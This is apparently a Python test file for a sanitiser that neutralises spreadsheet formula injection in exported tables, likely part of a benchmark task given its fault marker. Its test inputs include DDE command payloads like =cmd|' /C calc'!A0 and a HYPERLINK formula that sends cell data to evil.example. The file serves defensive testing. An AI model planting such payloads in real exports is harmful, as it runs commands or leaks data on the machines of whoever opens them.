"""Tables whose cells start nothing when a spreadsheet opens what the page's own button saved of them."""

from __future__ import annotations

import ast
from datetime import datetime
from pathlib import Path

import pytest

from app.cells import safe

PAGES = Path(__file__).resolve().parents[2] / "app"

pytestmark = pytest.mark.fault(37)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1)",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0 to 3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "-",
        "=.pdf",
        "-rf",
        "@everyone.txt",
    ],
)  # fmt: skip
def test_what_would_start_a_formula_is_text(cell: str) -> None:
    assert safe({"Name": [cell]}) == {"Name": [f"'{cell}"]}
    assert safe([{"Name": cell}]) == [{"Name": f"'{cell}"}]
    assert safe({cell: []}) == {f"'{cell}": []}


@pytest.mark.parametrize(
    "cell",
    [
        *("report.pdf", "a=b", "1-2", "", " ", "–", "’=1", "'=1", "£5", "p. 3", "–0.05"),
        *("-0.051", "+0.170", "-0.064 to +0.128", "-12.5 %", "+35 ms", "-1.20 s", "-1,200.5 ms to +3 ms"),
        *(-3, 0.5, None, True, datetime(2026, 1, 2)),
    ],
)  # fmt: skip
def test_what_would_not_stays_as_it_is(cell: object) -> None:
    assert safe({"Name": [cell]}) == {"Name": [cell]}
    assert safe([{"Name": cell}]) == [{"Name": cell}]


def test_every_page_shows_its_tables_so() -> None:
    for path in PAGES.rglob("*.py"):
        calls = [node for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)]
        named = [ast.unparse(call.func).rpartition(".") for call in calls]
        shown = [name for before, _, name in named if before and name in {"dataframe", "data_editor", "table"}]
        assert shown == (["dataframe"] if path.name == "cells.py" else []), path
